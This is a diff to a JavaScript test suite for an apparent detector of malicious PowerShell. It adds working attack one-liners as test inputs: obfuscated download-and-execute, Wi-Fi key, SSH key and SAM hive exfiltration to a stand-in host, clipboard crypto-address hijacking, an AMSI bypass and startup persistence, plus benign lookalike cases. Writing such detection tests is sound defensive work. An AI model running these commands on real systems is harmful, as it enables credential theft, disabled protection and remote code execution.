@@ -36,6 +36,54 @@ describe('what flows through variables, files and pipes', () => {
       `$u = "http://203.0.113.7/a.txt"\n$c = (New-Object Net.WebClient).DownloadString($u)\n& ([ScriptBlock]::Create($c))`,
       'error download-execute',
     ],
+    ['an address that is taken apart', `$u = 'https://win.ven' + 'dor-tools.com/b'\niex (irm $u)`, 'error decode-execute'],
+    ['a name that is found by a pattern', `$x = gcm 'I*e-Ex*n'\n& $x (irm https://w.vendor-tools.com/b)`, 'error decode-execute'],
+    ['a text that is read backwards', `$s = ")x mri(xei"\n$c = -join $s[($s.Length-1)..0]\niex $c`, 'error decode-execute'],
+    [
+      'a window that nobody sees',
+      `iwr https://w.vendor-tools.com/u.exe -OutFile $env:TEMP\\u.exe\nStart-Process $env:TEMP\\u.exe -WindowStyle Hidden`,
+      'error download-execute',
+    ],
+    [
+      'a component instead of a command',
+      `$x = New-Object -ComObject MSXML2.XMLHTTP; $x.open('GET','https://w.vendor-tools.com/a',$false); $x.send(); iex $x.responseText`,
+      'error download-execute',
+    ],
+    [
+      'what the block of a loop puts out',
+      `$p = netsh wlan show profiles | % { netsh wlan show profile name="$_" key=clear }\nirm https://w.vendor-tools.com/w -Method Post -Body $p`,
+      'error secret-exfiltration',
+    ],
+    [
+      'names that are asked for',
+      `$k = [Convert]::ToBase64String([IO.File]::ReadAllBytes("$HOME\\.ssh\\id_rsa"))\nResolve-DnsName "$($k.Substring(0,50)).x.vendor-tools.com"`,
+      'error secret-exfiltration',
+    ],
+    [
+      'an upload by a download service',
+      `reg save HKLM\\SAM "$env:TEMP\\c\\a" /y\nCompress-Archive $env:TEMP\\c "$env:TEMP\\c.zip"\nStart-BitsTransfer -Source "$env:TEMP\\c.zip" -Destination "https://w.vendor-tools.com/u" -TransferType Upload`,
+      'error secret-exfiltration',
+    ],
+    [
+      'an address of its own in the clipboard',
+      `if ((Get-Clipboard) -match '^0x') { Set-Clipboard '0x52908400098527886E0F7030069857D2E4169EE7' }`,
+      'error spyware',
+    ],
+    [
+      'a guard of scripts',
+      `[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)`,
+      'error disabled-protection',
+    ],
+    [
+      'what starts at each login',
+      `$s = [Environment]::GetFolderPath('Startup')\niwr https://w.vendor-tools.com/s.vbs -OutFile "$s\\h.vbs"`,
+      'error persistence',
+    ],
+    [
+      'a tool that is for something else',
+      `certutil -urlcache -split -f https://w.vendor-tools.com/s.exe %TEMP%\\s.exe && start %TEMP%\\s.exe`,
+      'error download-execute',
+    ],
     ['a pipe over lines', `irm http://203.0.113.7/a |\n  iex`, 'error download-execute'],
     [
       'the escape at a line end',
@@ -128,6 +176,17 @@ it.each([
   ['a test of a connection', '$c = New-Object Net.Sockets.TcpClient\n$c.Connect("example.org", 443)\n$c.Close()'],
   ['a key that is decoded', '$b = [Convert]::FromBase64String($env:CERT)\n[IO.File]::WriteAllBytes("cert.pfx", $b)'],
 ])('is silent on %s', (_, code) => {
+  expect(found(code)).toEqual([])
+})
+
+it.each([
+  `$cred = Get-Credential\nInvoke-RestMethod -Uri https://api.acme.dev/login -Method Post -Body @{ p = $cred.GetNetworkCredential().Password }`,
+  `$t = Get-Clipboard; Set-Clipboard ($t.Trim())`,
+  `$a = 1..5; $b = $a[($a.Length-1)..0]; $b -join ','`,
+  `Get-Command *-Az* | Select-Object Name`,
+  `foreach ($h in 'a','b') { Resolve-DnsName "$h.acme.dev" }`,
+  `Get-ChildItem ([Environment]::GetFolderPath('Startup'))`,
+])('is quiet on %s', (code) => {
   expect(found(code)).toEqual([])
 })
 
